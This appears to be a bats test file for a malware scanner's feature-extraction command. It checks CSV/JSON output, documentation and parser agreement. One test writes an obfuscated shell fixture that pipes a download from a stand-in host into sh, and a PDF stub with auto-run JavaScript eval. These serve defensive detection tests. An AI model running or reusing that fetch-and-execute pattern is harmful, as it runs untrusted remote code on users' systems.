#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# `ward features`: rows as the sandboxed scanner makes them.

bats_require_minimum_version 1.5.0

load ../cli/helpers.bash

@test "docs/features.md is what the tables say" {
	"$ward" features --columns | diff - <(sed '1,/^<!-- from here on/d' "$top/docs/features.md" | sed 1d)
	n=$(sed -n 's/^WARD_WORD_GROUP(\([a-z]*\), "\(.*\)")$/* \1: \2/p' "$top/src/ml/features/word-groups.def" |
		grep -cFxf - "$top/docs/features.md")
	[ "$n" = "$(grep -c '^WARD_WORD_GROUP' "$top/src/ml/features/word-groups.def")" ]
}

@test "a table for training: one line a file, a header, nothing of other kinds" {
	cp /bin/true odd\"name,
	run --separate-stderr "$ward" features --csv --type elf --jobs 2 -r . /bin/true /bin/cat "$BATS_TEST_FILENAME"
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"1 files of other kinds"* ]]
	python3 - "$output" <<-'PY'
		import csv, sys
		rows = list(csv.DictReader(sys.argv[1].splitlines()))
		assert len(rows) == 3, len(rows)
		by_path = {r["path"]: r for r in rows}
		assert './odd"name,' in by_path, list(by_path)
		a, b = by_path['./odd"name,'], by_path["/bin/true"]
		assert {k: v for k, v in a.items() if k != "path"} == {k: v for k, v in b.items() if k != "path"}
		assert None not in a and None not in a.values()
	PY
}

@test "the numbers of contents are those of another implementation" {
	python3 "$top/tests/ml/agree.py" "$ward" /bin/true /bin/cat /bin/bash
}

@test "scripts and documents have rows of their own" {
	printf '#!/bin/sh\nX=c\\u\\r\\l\n$X http://h/x | sh\n' >s
	printf '%%PDF-1.4\n1 0 obj <</OpenAction 2 0 R/S/JavaScript/JS(eval)>> endobj\n%%%%EOF\n' >p
	run --separate-stderr "$ward" features --json s p
	[ "$status" -eq 0 ]
	[ "$(printf '%s\n' "$output" | jq -r 'select(.schema == "script") | .features | "\(.language_0) \(.urls)"')" = "1 1" ]
	[ "$(printf '%s\n' "$output" | jq -r 'select(.schema == "pdf") | .features | "\(.scripts) \(.keywords_13)"')" = "1 1" ]
}

@test "JSON has every column, and null for what is missing" {
	run --separate-stderr "$ward" features --json /bin/true
	[ "$status" -eq 0 ]
	columns=$(printf '%s' "$output" | jq '.features | length')
	grep -q "Schema 1, version \`$(printf '%s' "$output" | jq -r .schema_version)\`, $columns columns" "$top/docs/features.md"
	[ "$(printf '%s' "$output" | jq '.features.overlay_entropy')" = null ]
	[ "$(printf '%s' "$output" | jq '.features.e_machine')" != null ]
}

@test "what cannot be done is said" {
	run --separate-stderr "$ward" features --type nonsense /bin/true
	[ "$status" -eq 2 ]
	run --separate-stderr "$ward" features missing
	[ "$status" -eq 2 ]
	run --separate-stderr "$ward" features
	[ "$status" -eq 2 ]
	head -c 100 /dev/zero >data
	run --separate-stderr "$ward" features data
	[ "$status" -eq 0 ]
	[ -z "$output" ]
	[[ "$stderr" == *"1 files of other kinds"* ]]
}

@test "the readers agree with published tables over Debian's files" {
	data=${WARD_SHARED:-$top/../shared}/data
	[ -f "$data/elf/debian12_benign_a.csv.gz" ] || skip "no published tables (WARD_SHARED names their folder)"
	run python3 "$top/train/prove-parsers" --data "$data" --build "$BUILD" --installed \
		--only coreutils util-linux libc6:amd64 bash grep sed tar findutils procps nsis-common libwine
	[ "$status" -ne 2 ] || skip "none of the files of the tables is installed here"
	echo "$output"
	[ "$status" -eq 0 ]
}
